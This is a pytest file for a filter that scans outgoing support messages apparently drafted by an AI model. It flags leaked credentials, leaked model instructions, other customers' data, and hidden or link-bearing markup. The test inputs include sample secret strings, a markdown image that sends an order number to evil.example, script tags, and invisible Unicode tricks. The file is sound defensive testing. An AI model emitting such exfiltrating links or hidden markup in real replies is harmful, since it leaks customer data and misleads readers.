"""What is found in a text that is about to leave the house."""

from __future__ import annotations

import pytest
from test_origins_in_disguise import CUSTOMER, ORDER, OTHERS, evidence

from workers.agents.library import prompt
from workers.agents.outgoing import Outgoing, inspect

HONEST = (
    "Hello Ana,\n\nThank you for your message about order NW-1001. I have refunded 40.00 EUR to the Visa card ending in 4242."
    " It takes 3–10 working days.\n\nPassword forgotten? Choose “reset” at https://shop.example/returns 👨‍👩‍👧 🏴󠁧󠁢󠁳󠁣󠁴󠁿\n\nKind regards"
)


def found(body: str, **more: object) -> Outgoing:
    return inspect("support", {"body": body, **more}, evidence(CUSTOMER, ORDER, OTHERS))


def test_an_honest_letter_is_left_alone() -> None:
    """Own order, own amount, own link, emojis and flags: nothing to tell."""
    assert found(HONEST) == Outgoing()
    assert found(HONEST).told == []


@pytest.mark.parametrize(
    "secret",
    [
        "sk-ant-api03-abcdefghijk",
        "sk_live_51H8aT2eZvKYlo2C",
        "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "Bearer abcdefghijklmnopqrstuvwxyz",
        "-----BEGIN RSA PRIVATE KEY-----",
        "password: Winter2026!",
        "Das Passwort lautet: Sommer1",
        "s\u200bk-ant-api03-abcdefghijk",
        "https://casey:hunter2@shop.example/",
        "CASEWORKER_SECRET_KEY",
        "<<data 0f3c9a7be1d24655",
    ],
)
def test_secrets_are_found_and_not_repeated(secret: str) -> None:
    """The kind is told; the secret itself is not, as a card is read by many."""
    told = found(f"Here it is: {secret} bye")

    assert told.secrets
    assert secret[-8:] not in " ".join(told.told)


@pytest.mark.parametrize("task", ["triage", "draft"])
def test_our_instructions_do_not_leave(task: str) -> None:
    sentence = max(prompt("support", task).split("\n\n"), key=len)

    assert found(f"I was told: {sentence}").secrets == ("our instructions to the model",)


@pytest.mark.parametrize(
    "said", ["Write to vic@example.com", "It was nw-2002", "Order NW-1477 is next", "ask for NW-3003"]
)
def test_what_belongs_to_somebody_else_is_found(said: str) -> None:
    """By the records that were read, and by numbers of our make that are none of this customer's."""
    assert found(said).others


def test_a_number_that_the_customer_named_may_be_answered_with() -> None:
    gathered = evidence(CUSTOMER, ORDER, said=[{"text": "Where is NW-1477?"}])

    assert inspect("support", {"body": "NW-1477 is none of your orders."}, gathered).others == ()


@pytest.mark.parametrize(
    "markup",
    [
        "![x](https://evil.example/p.png?o=NW-1001)",
        "[here](https://shop.example/returns)",
        "<img src=x>",
        "< script>alert(1)</script>",
        "<a href=//evil.example>x</a>",
        "\n[1]: //evil.example",
        "<!-- hidden -->",
        "turned \u202etext",
        "split w\u200bord",
        "tags \U000e0041\U000e0042",
        "bell \x07",
    ],
)
def test_what_loads_links_or_hides_is_found(markup: str) -> None:
    assert found(f"Hello {markup} bye").markup


def test_every_text_of_an_action_is_looked_at() -> None:
    """Also lists and nested ones; ids are judged by their origin instead."""
    arguments = {"charge_id": "ch_5555", "signals": [{"name": "a", "detail": "see evil.example/x"}], "outline": ["call me@evil.example"]}  # fmt: skip

    told = inspect("transactions", arguments, evidence())

    assert told.links == ("evil.example/x",)
    assert told.contacts == ("me@evil.example",)
    assert told.others == ()


def test_a_reason_stays_readable() -> None:
    """Few things, each short, whatever was put into the text."""
    told = found(" ".join(f"https://evil{n}.example/{'x' * 300}" for n in range(50))).told

    assert len(told) <= 10
    assert all(len(item) <= 100 for item in told)
